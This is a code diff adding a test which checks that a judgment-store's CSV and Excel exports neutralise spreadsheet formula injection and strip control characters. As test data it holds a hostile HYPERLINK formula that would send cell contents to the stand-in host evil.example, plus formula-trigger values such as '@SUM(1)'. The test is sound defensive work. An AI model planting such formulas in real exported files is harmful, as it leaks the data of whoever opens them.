@@ -390,6 +390,26 @@ def test_export_round_trip(store: JudgmentStore, tmp_path: Path) -> None:
     assert list(to_dataframe([]).columns) == COLUMNS_KO
 
 
+def test_exports_never_write_a_live_formula_or_crash_on_control_characters(tmp_path: Path) -> None:
+    # stored before input was checked (or by another client): the export must still be safe and succeed
+    store = JudgmentStore(f"sqlite:///{tmp_path / 'j.sqlite3'}")
+    hostile = '=HYPERLINK("http://evil.example/?"&F2,"y")'
+    store.save(judgment(company_name=hostile, ceo_name="@SUM(1)", comment="-2+3\x0b끝\x1a"))
+    rows = store.list()
+    csv_path, xlsx_path = tmp_path / "h.csv", tmp_path / "h.xlsx"
+    export_csv(rows, csv_path)
+    export_xlsx(rows, xlsx_path)  # IllegalCharacterError before the fix
+    for frame in (pd.read_csv(csv_path, encoding="utf-8-sig", dtype=str, keep_default_na=False),
+                  pd.read_excel(xlsx_path, dtype=str, keep_default_na=False)):
+        assert frame["기업명"].tolist() == ["'" + hostile]
+        assert frame["대표자명"].tolist() == ["'@SUM(1)"] and frame["의견"].tolist() == ["'-2+3끝"]
+    sheet = openpyxl.load_workbook(xlsx_path).active
+    header = [c.value for c in sheet[1]]
+    assert sheet.cell(2, header.index("기업명") + 1).data_type == "s"  # text, not a formula
+    assert isinstance(sheet.cell(2, header.index("번호") + 1).value, int)  # numbers stay numbers
+    store.close()
+
+
 # --------------------------------------------------------------------------- errors
 
 
